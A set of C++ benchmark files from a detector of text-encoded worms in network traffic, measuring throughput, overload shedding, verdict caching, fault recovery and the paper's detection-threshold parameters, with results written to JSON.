        static_cast<unsigned long long>(recovery_untyped),
        recovery_checked,
        static_cast<unsigned long long>(recovery_mismatches));
    server->drain();
  }

  // Gates: every refusal well-formed; the shed rate near the 3/4 the
  // token budget dictates (per-shard bucket variance allows a band).
  int status = 0;
  if (overload_malformed > 0) {
    std::fprintf(stderr,
                 "FAIL: %llu refusal(s) lacked a typed code or "
                 "retry-after hint\n",
                 static_cast<unsigned long long>(overload_malformed));
    status = 1;
  }
  if (shed_rate < 0.5 || shed_rate > 0.95) {
    std::fprintf(stderr,
                 "FAIL: shed rate %.3f outside [0.5, 0.95] at 4x overload\n",
                 shed_rate);
    status = 1;
  }
  if (mel::util::fault::kCompiledIn) {
    if (faulty_untyped > 0) {
      std::fprintf(stderr,
                   "FAIL: %llu untyped failure(s) under the fault matrix\n",
                   static_cast<unsigned long long>(faulty_untyped));
      status = 1;
    }
    if (faulty_ok == 0) {
      std::fprintf(stderr,
                   "FAIL: no scan completed under the fault matrix\n");
      status = 1;
    }
    if (recovery_ms > 5'000.0) {
      std::fprintf(stderr,
                   "FAIL: recovery took %.0fms after faults cleared\n",
                   recovery_ms);
      status = 1;
    }
  }
  if (recovery_ran) {
    if (recovery_rebuilds < 1) {
      std::fprintf(stderr,
                   "FAIL: shard crash was never rebuilt (condemned %llu)\n",
                   static_cast<unsigned long long>(recovery_condemned));
      status = 1;
    }
    if (shard_recovery_ms > 5'000.0) {
      std::fprintf(stderr,
                   "FAIL: shard recovery took %.0fms (gate: 5000ms)\n",
                   shard_recovery_ms);
      status = 1;
    }
    if (recovery_untyped > 0) {
      std::fprintf(stderr,
                   "FAIL: %llu untyped failure(s) during shard recovery\n",
                   static_cast<unsigned long long>(recovery_untyped));
      status = 1;
    }
    if (recovery_checked == 0 || recovery_mismatches > 0) {
      std::fprintf(stderr,
                   "FAIL: post-recovery verdicts not bit-identical "
                   "(%zu checked, %llu mismatched)\n",
                   recovery_checked,
                   static_cast<unsigned long long>(recovery_mismatches));
      status = 1;
    }
  }

  const char* path = MEL_BENCH_REPO_ROOT "/BENCH_server_throughput.json";
  std::FILE* json = std::fopen(path, "w");
  if (json == nullptr) {
    std::fprintf(stderr, "cannot write %s\n", path);
    return 1;
  }
  std::fprintf(json, "{\n");
  std::fprintf(json, "  \"bench\": \"server_throughput\",\n");
  std::fprintf(json, "  \"schema_version\": 2,\n");
  std::fprintf(json, "  \"smoke\": %s,\n", smoke ? "true" : "false");
  std::fprintf(json, "  \"corpus_payloads\": %zu,\n", corpus.size());
  std::fprintf(json, "  \"shards\": %zu,\n", shards);
  std::fprintf(json, "  \"workers\": %zu,\n", clients);
  std::fprintf(json, "  \"clients\": %zu,\n", clients);
  std::fprintf(json, "  \"connections_per_sec\": %.1f,\n",
               connections_per_sec);
  std::fprintf(json, "  \"sustained_rps\": %.1f,\n", sustained_rps);
  std::fprintf(json, "  \"sustained_p50_us\": %.1f,\n", sustained_p50);
  std::fprintf(json, "  \"sustained_p99_us\": %.1f,\n", sustained_p99);
  std::fprintf(json, "  \"overload_offered\": %zu,\n", offered);
  std::fprintf(json, "  \"overload_admitted\": %llu,\n",
               static_cast<unsigned long long>(overload_ok));
  std::fprintf(json, "  \"overload_shed\": %llu,\n",
               static_cast<unsigned long long>(overload_shed));
  std::fprintf(json, "  \"overload_shed_rate\": %.4f,\n", shed_rate);
  std::fprintf(json, "  \"overload_malformed_refusals\": %llu,\n",
               static_cast<unsigned long long>(overload_malformed));
  std::fprintf(json, "  \"overload_admitted_p99_us\": %.1f,\n", overload_p99);
  std::fprintf(json, "  \"faulty_injection_compiled_in\": %s,\n",
               mel::util::fault::kCompiledIn ? "true" : "false");
  std::fprintf(json, "  \"faulty_ok\": %llu,\n",
               static_cast<unsigned long long>(faulty_ok));
  std::fprintf(json, "  \"faulty_failed_typed\": %llu,\n",
               static_cast<unsigned long long>(faulty_failed));
  std::fprintf(json, "  \"faulty_untyped_failures\": %llu,\n",
               static_cast<unsigned long long>(faulty_untyped));
  std::fprintf(json, "  \"faulty_retried_scans\": %llu,\n",
               static_cast<unsigned long long>(faulty_retried));
  std::fprintf(json, "  \"faulty_retry_success_rate\": %.4f,\n",
               retry_success_rate);
  std::fprintf(json, "  \"faulty_reconnects\": %llu,\n",
               static_cast<unsigned long long>(faulty_reconnects));
  std::fprintf(json, "  \"faulty_recovery_ms\": %.1f,\n", recovery_ms);
  std::fprintf(json, "  \"shard_recovery_ran\": %s,\n",
               recovery_ran ? "true" : "false");
  std::fprintf(json, "  \"shard_recovery_ms\": %.1f,\n", shard_recovery_ms);
  std::fprintf(json, "  \"shard_recovery_condemned\": %llu,\n",
               static_cast<unsigned long long>(recovery_condemned));
  std::fprintf(json, "  \"shard_recovery_rebuilds\": %llu,\n",
               static_cast<unsigned long long>(recovery_rebuilds));
  std::fprintf(json, "  \"shard_recovery_rebuild_failures\": %llu,\n",
               static_cast<unsigned long long>(recovery_rebuild_failures));
  std::fprintf(json, "  \"shard_recovery_typed_refusals\": %llu,\n",
               static_cast<unsigned long long>(recovery_typed_refusals));
  std::fprintf(json, "  \"shard_recovery_untyped_failures\": %llu,\n",
               static_cast<unsigned long long>(recovery_untyped));
  std::fprintf(json, "  \"shard_recovery_verdicts_checked\": %zu,\n",
               recovery_checked);
  std::fprintf(json, "  \"shard_recovery_verdict_mismatches\": %llu,\n",
               static_cast<unsigned long long>(recovery_mismatches));
  std::fprintf(json, "  \"pass\": %s\n", status == 0 ? "true" : "false");
  std::fprintf(json, "}\n");
  std::fclose(json);
  std::printf("\nwrote %s\n", path);
  return status;
}
