// Experiment E6 — Section 5.2's parameter determination.
//
// Reproduces the full decoder-free estimation pipeline: z -> E[prefix
// chain] -> E[actual instruction] -> E[instruction length] -> n, and
// p_io + p_wrong_segment -> p -> tau. Paper values: z=0.16, E[prefix]=0.19,
// E[actual]=2.4, E[len]=2.6, n=1540 (C=4000), p=0.185+0.042=0.227, tau=40.
// Also compares the predicted instruction length with the measured sweep
// (paper: 2.6 predicted vs 2.65 measured).

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/mel_model.hpp"
#include "mel/core/parameter_estimation.hpp"
#include "mel/exec/sweep.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"

namespace {

void print_pipeline(const char* label,
                    const mel::core::CharFrequencyTable& table) {
  const auto params = mel::core::estimate_parameters(table, 4000);
  std::printf("\n%s:\n", label);
  std::printf("  z (prefix char probability)      : %7.4f  (paper: 0.16)\n",
              params.z);
  std::printf("  E[prefix chain] = z/(1-z)        : %7.4f  (paper: 0.19)\n",
              params.expected_prefix_chain);
  std::printf("  E[actual instruction]            : %7.4f  (paper: 2.4)\n",
              params.expected_actual_length);
  std::printf("  E[instruction length]            : %7.4f  (paper: 2.6)\n",
              params.expected_instruction_length);
  std::printf("  n = C / E[len], C = 4000         : %7.1f  (paper: 1540)\n",
              params.n);
  std::printf("  P[opcode takes ModR/M]           : %7.4f\n",
              params.modrm_probability);
  std::printf("  p_io  (insb/insd/outsb/outsd)    : %7.4f  (paper: 0.185)\n",
              params.p_io);
  std::printf("  p_seg (wrong-segment memory)     : %7.4f  (paper: 0.042)\n",
              params.p_wrong_segment);
  std::printf("  p = p_io + p_seg                 : %7.4f  (paper: 0.227)\n",
              params.p);
  const mel::core::MelModel model(
      static_cast<std::int64_t>(params.n), params.p);
  std::printf("  tau(alpha=1%%)                    : %7.2f  (paper: 40)\n",
              model.threshold_for_alpha(0.01));
}

}  // namespace

int main() {
  mel::bench::print_title("Section 5.2 — determining n, p and tau");

  print_pipeline("Preset web-text distribution ('from experience')",
                 mel::traffic::web_text_distribution());

  const auto corpus = mel::traffic::make_benign_dataset({});
  print_pipeline("Measured benign corpus distribution ('linear sweep')",
                 mel::traffic::measure_distribution(corpus));

  mel::bench::print_section(
      "Prediction vs measurement (Section 5.3's 2.6 vs 2.65 check)");
  double total_length = 0.0;
  double total_count = 0.0;
  double total_invalid = 0.0;
  for (const auto& payload : corpus) {
    const auto sweep = mel::exec::analyze_sweep(
        payload, mel::exec::ValidityRules::dawn());
    total_length += sweep.average_instruction_length *
                    static_cast<double>(sweep.instruction_count);
    total_count += static_cast<double>(sweep.instruction_count);
    total_invalid += static_cast<double>(sweep.invalid_count);
  }
  const auto params = mel::core::estimate_parameters(
      mel::traffic::measure_distribution(corpus), 4000);
  std::printf("  predicted E[instruction length] : %.3f\n",
              params.expected_instruction_length);
  std::printf("  measured  avg instruction len   : %.3f   "
              "(paper: 2.6 vs 2.65)\n",
              total_length / total_count);
  std::printf("  estimated p (decoder-free)      : %.3f\n", params.p);
  std::printf("  measured  invalid fraction      : %.3f   "
              "(estimate is deliberately conservative)\n",
              total_invalid / total_count);

  mel::bench::print_section("Per-rule invalidity census on the corpus");
  std::vector<std::size_t> census;
  std::size_t instructions = 0;
  for (const auto& payload : corpus) {
    const auto sweep = mel::exec::analyze_sweep(
        payload, mel::exec::ValidityRules::dawn());
    const auto case_census = mel::exec::invalidity_census(sweep);
    if (census.empty()) census.resize(case_census.size(), 0);
    for (std::size_t i = 0; i < case_census.size(); ++i) {
      census[i] += case_census[i];
    }
    instructions += sweep.instruction_count;
  }
  for (std::size_t i = 0; i < census.size(); ++i) {
    if (census[i] == 0) continue;
    std::printf("  %-24s %8zu  (%.3f of instructions)\n",
                std::string(mel::exec::invalid_reason_name(
                                static_cast<mel::exec::InvalidReason>(i)))
                    .c_str(),
                census[i],
                static_cast<double>(census[i]) /
                    static_cast<double>(instructions));
  }
  return 0;
}
