// Overload shedding under a synthetic traffic burst: N requests are
// hammered at ScanService from several threads while the admission
// token bucket only covers a quarter of them. The bench reports
//
//   * the shed rate (typed kUnavailable refusals / total requests),
//   * latency percentiles of the ADMITTED path — the point of shedding
//     is that the requests you do accept stay fast instead of everyone
//     queueing into deadline misses,
//   * proof that every refusal was well-formed: kUnavailable, with a
//     computed Retry-After hint, classified retryable.
//
// Results go to stdout (human table) and BENCH_overload.json. Pass
// --smoke for a CI-sized run (sanitize/tsan trees).

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <thread>
#include <vector>

#include "bench_util.hpp"
#include "mel/service/scan_service.hpp"
#include "mel/util/logging.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/util/rng.hpp"
#include "mel/util/status.hpp"

namespace {

using Clock = std::chrono::steady_clock;

struct WorkerLedger {
  std::vector<double> admitted_us;
  std::uint64_t shed = 0;
  std::uint64_t malformed_refusals = 0;
  std::uint64_t alarms = 0;
};

std::vector<mel::util::ByteBuffer> make_burst(std::size_t benign,
                                              std::size_t worms) {
  mel::traffic::BenignDatasetOptions options;
  options.cases = benign;
  options.case_size = 4000;
  auto corpus = mel::traffic::make_benign_dataset(options);
  for (const auto& worm : mel::textcode::text_worm_corpus(worms, 2008)) {
    corpus.push_back(worm.bytes);
  }
  mel::util::Xoshiro256 rng(11);
  for (std::size_t i = corpus.size(); i > 1; --i) {
    std::swap(corpus[i - 1], corpus[rng.next_below(i)]);
  }
  return corpus;
}

double percentile(std::vector<double>& sorted_us, double p) {
  if (sorted_us.empty()) return 0.0;
  const auto rank = static_cast<std::size_t>(
      p * static_cast<double>(sorted_us.size() - 1) + 0.5);
  return sorted_us[std::min(rank, sorted_us.size() - 1)];
}

}  // namespace

int main(int argc, char** argv) {
  const bool smoke =
      argc > 1 && std::strcmp(argv[1], "--smoke") == 0;
  // Hundreds of sheds are the POINT of this bench; don't WARN for each.
  mel::util::set_log_threshold(mel::util::LogLevel::kError);
  mel::bench::print_title(
      "Overload shedding — admission control under a 4x traffic burst");

  const std::size_t benign = smoke ? 36 : 380;
  const std::size_t worms = smoke ? 4 : 20;
  const auto corpus = make_burst(benign, worms);
  const std::size_t capacity = corpus.size() / 4;

  mel::service::ServiceConfig config;
  config.admission.burst = static_cast<double>(capacity);
  config.admission.rate_per_sec = 0.001;  // Bucket will not refill mid-run.
  auto service_or = mel::service::ScanService::create(config);
  if (!service_or.is_ok()) {
    std::fprintf(stderr, "service config rejected: %s\n",
                 service_or.status().to_string().c_str());
    return 1;
  }
  const mel::service::ScanService service = std::move(service_or).take();

  const std::size_t workers = std::min<std::size_t>(
      4, std::max(1u, std::thread::hardware_concurrency()));
  std::printf("\nBurst: %zu payloads at %zu threads; token bucket admits "
              "%zu (4x overload).%s\n",
              corpus.size(), workers, capacity, smoke ? " [smoke]" : "");

  std::vector<WorkerLedger> ledgers(workers);
  {
    std::vector<std::thread> pool;
    pool.reserve(workers);
    for (std::size_t tid = 0; tid < workers; ++tid) {
      pool.emplace_back([&, tid] {
        WorkerLedger& ledger = ledgers[tid];
        mel::exec::MelScratch scratch;
        for (std::size_t i = tid; i < corpus.size(); i += workers) {
          const auto start = Clock::now();
          const auto outcome = service.scan(mel::service::ScanRequest{
              .payload = corpus[i], .scratch = &scratch});
          const auto stop = Clock::now();
          if (outcome.is_ok()) {
            ledger.admitted_us.push_back(
                std::chrono::duration<double, std::micro>(stop - start)
                    .count());
            ledger.alarms += outcome.value().verdict.malicious;
            continue;
          }
          ++ledger.shed;
          const mel::util::Status& refusal = outcome.status();
          if (refusal.code() != mel::util::StatusCode::kUnavailable ||
              refusal.retry_after().count() <= 0 ||
              !mel::util::is_retryable(refusal)) {
            ++ledger.malformed_refusals;
          }
        }
      });
    }
    for (auto& thread : pool) thread.join();
  }

  std::vector<double> admitted_us;
  std::uint64_t shed = 0;
  std::uint64_t malformed = 0;
  std::uint64_t alarms = 0;
  for (const WorkerLedger& ledger : ledgers) {
    admitted_us.insert(admitted_us.end(), ledger.admitted_us.begin(),
                       ledger.admitted_us.end());
    shed += ledger.shed;
    malformed += ledger.malformed_refusals;
    alarms += ledger.alarms;
  }
  std::sort(admitted_us.begin(), admitted_us.end());
  const double shed_rate =
      static_cast<double>(shed) / static_cast<double>(corpus.size());
  const double p50 = percentile(admitted_us, 0.50);
  const double p99 = percentile(admitted_us, 0.99);

  if (malformed != 0) {
    std::fprintf(stderr,
                 "MALFORMED REFUSALS: %llu sheds were not "
                 "kUnavailable+Retry-After — shed accounting is broken.\n",
                 static_cast<unsigned long long>(malformed));
    return 1;
  }
  if (admitted_us.size() != capacity) {
    std::fprintf(stderr,
                 "admitted %zu != bucket capacity %zu — token accounting "
                 "drifted under contention.\n",
                 admitted_us.size(), capacity);
    return 1;
  }

  mel::bench::print_section("Results");
  std::printf("%-28s %12s\n", "series", "value");
  std::printf("%-28s %12zu\n", "requests", corpus.size());
  std::printf("%-28s %12zu\n", "admitted", admitted_us.size());
  std::printf("%-28s %12llu\n", "shed (503 + Retry-After)",
              static_cast<unsigned long long>(shed));
  std::printf("%-28s %11.1f%%\n", "shed rate", shed_rate * 100.0);
  std::printf("%-28s %12.1f\n", "admitted p50 (us)", p50);
  std::printf("%-28s %12.1f\n", "admitted p99 (us)", p99);
  std::printf("%-28s %12llu\n", "alarms in admitted stream",
              static_cast<unsigned long long>(alarms));
  std::printf("\nEvery refusal carried code=kUnavailable, a Retry-After "
              "hint, and is_retryable()=true.\nShedding happened before "
              "the scan path, so admitted latency reflects scan cost,\n"
              "not queue wait (docs/resilience.md).\n");

  std::FILE* json = std::fopen("BENCH_overload.json", "w");
  if (json == nullptr) {
    std::fprintf(stderr, "cannot write BENCH_overload.json\n");
    return 1;
  }
  std::fprintf(json, "{\n");
  std::fprintf(json, "  \"bench\": \"overload_shedding\",\n");
  std::fprintf(json, "  \"schema_version\": 2,\n");
  std::fprintf(json, "  \"smoke\": %s,\n", smoke ? "true" : "false");
  std::fprintf(json, "  \"corpus_payloads\": %zu,\n", corpus.size());
  std::fprintf(json, "  \"shards\": 0,\n");
  std::fprintf(json, "  \"workers\": %zu,\n", workers);
  std::fprintf(json, "  \"threads\": %zu,\n", workers);
  std::fprintf(json, "  \"requests\": %zu,\n", corpus.size());
  std::fprintf(json, "  \"admitted\": %zu,\n", admitted_us.size());
  std::fprintf(json, "  \"shed\": %llu,\n",
               static_cast<unsigned long long>(shed));
  std::fprintf(json, "  \"shed_rate\": %.4f,\n", shed_rate);
  std::fprintf(json, "  \"admitted_p50_us\": %.1f,\n", p50);
  std::fprintf(json, "  \"admitted_p99_us\": %.1f,\n", p99);
  std::fprintf(json, "  \"alarms\": %llu,\n",
               static_cast<unsigned long long>(alarms));
  std::fprintf(json, "  \"refusals_well_formed\": true\n");
  std::fprintf(json, "}\n");
  std::fclose(json);
  std::printf("\nWrote BENCH_overload.json\n");
  return 0;
}
