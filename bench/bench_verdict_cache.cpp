// Verdict-cache effectiveness on repetitive gateway traffic.
//
// Production mail/HTTP feeds repeat themselves: the same bodies,
// boilerplate and attachments recur far more often than a uniform
// sampler would suggest. This bench builds a Zipf-flavored stream over a
// small set of distinct payloads (plus worms), scans it once through a
// plain ScanService and once with a persist::VerdictCache in front, and
// reports the hit rate and speedup — after first proving every cached
// verdict bit-identical to the computed one.
//
// Results go to stdout and BENCH_verdict_cache.json. The JSON is written
// UNCONDITIONALLY: a failed run carries its status string instead of
// leaving an empty bench trajectory.

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench_util.hpp"
#include "mel/persist/verdict_cache.hpp"
#include "mel/service/scan_service.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/email_gen.hpp"
#include "mel/util/rng.hpp"

namespace {

using Clock = std::chrono::steady_clock;

struct BenchOutput {
  std::string status = "ok";
  std::size_t distinct_payloads = 0;
  std::size_t stream_length = 0;
  std::uint64_t total_bytes = 0;
  std::uint64_t alarms = 0;
  double hit_rate = 0.0;
  double cold_seconds = 0.0;
  double cached_seconds = 0.0;
  double speedup = 0.0;
  bool verdicts_identical = false;
};

void emit_json(const BenchOutput& out) {
  std::FILE* json = std::fopen("BENCH_verdict_cache.json", "w");
  if (json == nullptr) {
    std::fprintf(stderr, "cannot write BENCH_verdict_cache.json\n");
    return;
  }
  std::fprintf(json, "{\n");
  std::fprintf(json, "  \"bench\": \"verdict_cache\",\n");
  std::fprintf(json, "  \"schema_version\": 2,\n");
  std::fprintf(json, "  \"status\": \"%s\",\n", out.status.c_str());
  std::fprintf(json, "  \"corpus_payloads\": %zu,\n", out.stream_length);
  std::fprintf(json, "  \"shards\": 0,\n");
  std::fprintf(json, "  \"workers\": 1,\n");
  std::fprintf(json, "  \"distinct_payloads\": %zu,\n", out.distinct_payloads);
  std::fprintf(json, "  \"stream_length\": %zu,\n", out.stream_length);
  std::fprintf(json, "  \"total_bytes\": %llu,\n",
               static_cast<unsigned long long>(out.total_bytes));
  std::fprintf(json, "  \"alarms\": %llu,\n",
               static_cast<unsigned long long>(out.alarms));
  std::fprintf(json, "  \"hit_rate\": %.4f,\n", out.hit_rate);
  std::fprintf(json, "  \"cold_seconds\": %.6f,\n", out.cold_seconds);
  std::fprintf(json, "  \"cached_seconds\": %.6f,\n", out.cached_seconds);
  std::fprintf(json, "  \"speedup\": %.3f,\n", out.speedup);
  std::fprintf(json, "  \"verdicts_identical\": %s\n",
               out.verdicts_identical ? "true" : "false");
  std::fprintf(json, "}\n");
  std::fclose(json);
  std::printf("\nWrote BENCH_verdict_cache.json\n");
}

int run(BenchOutput& out) {
  mel::bench::print_title(
      "Verdict cache — hit rate and speedup on repetitive gateway traffic");

  // Distinct payload pool: HTTP bodies, mails, a few worms.
  mel::traffic::BenignDatasetOptions http_options;
  http_options.cases = 48;
  http_options.case_size = 4000;
  auto pool = mel::traffic::make_benign_dataset(http_options);
  const mel::traffic::EmailGenerator email;
  for (auto& mail : email.make_mail_corpus(12, 4000, 29)) {
    pool.push_back(std::move(mail));
  }
  for (const auto& worm : mel::textcode::text_worm_corpus(4, 77)) {
    pool.push_back(worm.bytes);
  }
  out.distinct_payloads = pool.size();

  // Zipf-ish repetition: index ~ floor(U^3 * n) concentrates most of the
  // stream on a few "hot" payloads, the tail stays cold.
  constexpr std::size_t kStreamLength = 2000;
  mel::util::Xoshiro256 rng(20080617);
  std::vector<std::size_t> stream(kStreamLength);
  for (std::size_t& index : stream) {
    const double u =
        static_cast<double>(rng()) / 18446744073709551616.0;  // [0,1).
    index = static_cast<std::size_t>(u * u * u *
                                     static_cast<double>(pool.size()));
    index = std::min(index, pool.size() - 1);
  }
  out.stream_length = kStreamLength;
  for (std::size_t index : stream) out.total_bytes += pool[index].size();
  std::printf("\nTraffic: %zu scans over %zu distinct payloads, %.1f MB "
              "total.\n",
              kStreamLength, pool.size(),
              static_cast<double>(out.total_bytes) / 1e6);

  // Pass 1: no cache (the baseline every hit must match bit for bit).
  std::vector<mel::core::Verdict> cold_verdicts(kStreamLength);
  {
    auto service_or =
        mel::service::ScanService::create(mel::service::ServiceConfig{});
    if (!service_or.is_ok()) {
      out.status = "service config rejected";
      return 1;
    }
    const auto service = std::move(service_or).take();
    mel::exec::MelScratch scratch;
    const auto start = Clock::now();
    for (std::size_t i = 0; i < kStreamLength; ++i) {
      auto report = service.scan(mel::service::ScanRequest{
          .payload = pool[stream[i]], .scratch = &scratch});
      if (!report.is_ok()) {
        out.status = "cold scan failed: " + report.status().to_string();
        return 1;
      }
      cold_verdicts[i] = report.value().verdict;
      out.alarms += report.value().verdict.malicious;
    }
    out.cold_seconds = std::chrono::duration<double>(Clock::now() - start)
                           .count();
  }

  // Pass 2: same stream with a verdict cache in front.
  std::shared_ptr<mel::persist::VerdictCache> cache;
  {
    auto cache_or = mel::persist::VerdictCache::create({});
    if (!cache_or.is_ok()) {
      out.status = "cache config rejected";
      return 1;
    }
    cache = std::move(cache_or).take();
  }
  {
    mel::service::ServiceConfig config;
    config.verdict_cache = cache;
    auto service_or = mel::service::ScanService::create(std::move(config));
    if (!service_or.is_ok()) {
      out.status = "cached service config rejected";
      return 1;
    }
    const auto service = std::move(service_or).take();
    mel::exec::MelScratch scratch;
    const auto start = Clock::now();
    for (std::size_t i = 0; i < kStreamLength; ++i) {
      auto report = service.scan(mel::service::ScanRequest{
          .payload = pool[stream[i]], .scratch = &scratch});
      if (!report.is_ok()) {
        out.status = "cached scan failed: " + report.status().to_string();
        return 1;
      }
      // Hit==miss bit-identity: the whole point of the cache's
      // correctness stance. memcmp-level equality on the decision fields.
      const mel::core::Verdict& got = report.value().verdict;
      const mel::core::Verdict& want = cold_verdicts[i];
      if (got.malicious != want.malicious || got.mel != want.mel ||
          got.threshold != want.threshold || got.degraded != want.degraded) {
        out.status = "cached verdict diverged at scan " + std::to_string(i);
        return 1;
      }
    }
    out.cached_seconds = std::chrono::duration<double>(Clock::now() - start)
                             .count();
  }
  out.verdicts_identical = true;

  const std::uint64_t lookups = cache->hits() + cache->misses();
  out.hit_rate = lookups == 0 ? 0.0
                              : static_cast<double>(cache->hits()) /
                                    static_cast<double>(lookups);
  out.speedup =
      out.cached_seconds > 0.0 ? out.cold_seconds / out.cached_seconds : 0.0;

  mel::bench::print_section("Results");
  std::printf("%-28s %12.3f s\n", "no cache", out.cold_seconds);
  std::printf("%-28s %12.3f s\n", "with verdict cache", out.cached_seconds);
  std::printf("%-28s %12.1f %%\n", "hit rate", out.hit_rate * 100.0);
  std::printf("%-28s %12.2fx\n", "speedup", out.speedup);
  std::printf("%-28s %12llu\n", "alarms (both passes)",
              static_cast<unsigned long long>(out.alarms));
  std::printf("\nEvery cache-hit verdict matched the no-cache verdict "
              "bit for bit.\n");
  return 0;
}

}  // namespace

int main() {
  BenchOutput out;
  const int rc = run(out);
  if (rc != 0 && out.status == "ok") out.status = "failed";
  emit_json(out);
  return rc;
}
