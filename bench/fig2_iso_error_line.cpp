// Experiment E4 — Figure 2 of the paper.
//
// The iso-error line: (p, tau) combinations sharing the same false-positive
// rate alpha = 1% at n = 1540. Annotated operating points: the benign
// estimate (p=0.227 -> tau=40, the max allowable tau for zero FP) and the
// malware boundary (MEL 120 -> p=0.073, the min allowable p for zero FN).
// The paper's takeaway: the gap between the two is large, so the detector
// tolerates sizable drift in the estimated p.

#include <cstdio>

#include "bench_util.hpp"
#include "mel/core/calibration.hpp"

int main() {
  mel::bench::print_title(
      "Figure 2 — (p, tau) combinations for the same false-positive rate");

  constexpr std::int64_t kN = 1540;
  constexpr double kAlpha = 0.01;

  const auto curve = mel::core::iso_error_curve(kN, kAlpha, 0.02, 0.6, 60);
  std::vector<mel::bench::SeriesPoint> points;
  points.reserve(curve.size());
  for (const auto& point : curve) {
    points.push_back({point.p, point.tau});
  }
  std::printf("\nISO-ERROR LINE at alpha = 1%%, n = %lld\n\n",
              static_cast<long long>(kN));
  mel::bench::print_xy_plot(points, 64, 18, "p (invalid probability)",
                            "tau");

  mel::bench::print_section("Sampled points");
  std::printf("%10s %12s\n", "p", "tau");
  for (std::size_t i = 0; i < curve.size(); i += 5) {
    std::printf("%10.3f %12.2f\n", curve[i].p, curve[i].tau);
  }

  mel::bench::print_section("Annotated operating points (paper values)");
  const auto gap = mel::core::sensitivity_gap(0.227, 120.0, kN, kAlpha);
  std::printf("  benign estimate  : p = %.3f -> tau = %6.2f   "
              "(paper: p=0.227, tau=40)\n",
              gap.benign_p, gap.benign_tau);
  std::printf("  malware boundary : MEL = %3.0f -> p = %.4f   "
              "(paper: MEL=120, p=0.073)\n",
              gap.malware_mel, gap.malware_p);
  std::printf("  gap in p-space   : %.3f  "
              "(paper: 'quite large' — estimation drift tolerated)\n",
              gap.p_gap());
  return 0;
}
