// Experiment E11 — google-benchmark microbenchmarks: decoder, engines,
// estimator and detector throughput. The paper's detector must keep up
// with a network tap; these numbers put the "fast, reliable" claim on a
// concrete footing for this implementation.

#include <benchmark/benchmark.h>

#include "mel/baselines/signature_scanner.hpp"
#include "mel/core/detector.hpp"
#include "mel/core/stream_detector.hpp"
#include "mel/exec/concrete_machine.hpp"
#include "mel/core/mel_model.hpp"
#include "mel/disasm/decoder.hpp"
#include "mel/exec/mel.hpp"
#include "mel/stats/longest_run.hpp"
#include "mel/stats/monte_carlo.hpp"
#include "mel/textcode/encoder.hpp"
#include "mel/traffic/dataset.hpp"
#include "mel/traffic/english_model.hpp"

namespace {

const mel::util::ByteBuffer& benign_4k() {
  static const auto payload =
      mel::traffic::make_benign_dataset({.cases = 1}).front();
  return payload;
}

const mel::util::ByteBuffer& worm_bytes() {
  static const auto worm = mel::textcode::text_worm_corpus(1, 3).front().bytes;
  return worm;
}

void BM_DecodeLinearSweep(benchmark::State& state) {
  const auto& payload = benign_4k();
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::disasm::linear_sweep(payload));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_DecodeLinearSweep);

void BM_MelLinearSweep(benchmark::State& state) {
  const auto& payload = benign_4k();
  mel::exec::MelOptions options;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::exec::compute_mel(payload, options));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_MelLinearSweep);

void BM_MelAllPathsDag(benchmark::State& state) {
  const auto& payload = benign_4k();
  mel::exec::MelOptions options;
  options.engine = mel::exec::MelEngine::kAllPathsDag;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::exec::compute_mel(payload, options));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_MelAllPathsDag);

void BM_MelCachedDag(benchmark::State& state) {
  const auto& payload = benign_4k();
  mel::exec::MelOptions options;
  options.engine = mel::exec::MelEngine::kCachedDag;
  mel::exec::MelScratch scratch;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::exec::compute_mel(payload, options, scratch));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_MelCachedDag);

void BM_MelStrictExplorer(benchmark::State& state) {
  const auto& payload = benign_4k();
  mel::exec::MelOptions options;
  options.rules = mel::exec::ValidityRules::dawn(/*strict=*/true);
  options.step_budget = 5'000'000;
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::exec::compute_mel(payload, options));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_MelStrictExplorer);

void BM_ParameterEstimation(benchmark::State& state) {
  const auto& dist = mel::traffic::web_text_distribution();
  for (auto _ : state) {
    benchmark::DoNotOptimize(mel::core::estimate_parameters(dist, 4000));
  }
}
BENCHMARK(BM_ParameterEstimation);

void BM_ThresholdDerivation(benchmark::State& state) {
  const mel::core::MelModel model(1540, 0.227);
  for (auto _ : state) {
    benchmark::DoNotOptimize(model.threshold_for_alpha(0.01));
  }
}
BENCHMARK(BM_ThresholdDerivation);

void BM_DetectorScanBenign(benchmark::State& state) {
  const mel::core::MelDetector detector;
  const auto& payload = benign_4k();
  for (auto _ : state) {
    benchmark::DoNotOptimize(detector.scan(payload));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_DetectorScanBenign);

void BM_DetectorScanWorm(benchmark::State& state) {
  const mel::core::MelDetector detector;
  const auto& payload = worm_bytes();
  for (auto _ : state) {
    benchmark::DoNotOptimize(detector.scan(payload));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(payload.size()));
}
BENCHMARK(BM_DetectorScanWorm);

void BM_MonteCarloRound(benchmark::State& state) {
  mel::util::Xoshiro256 rng(1);
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        mel::stats::simulate_mel_round(1540, 0.227, rng));
  }
}
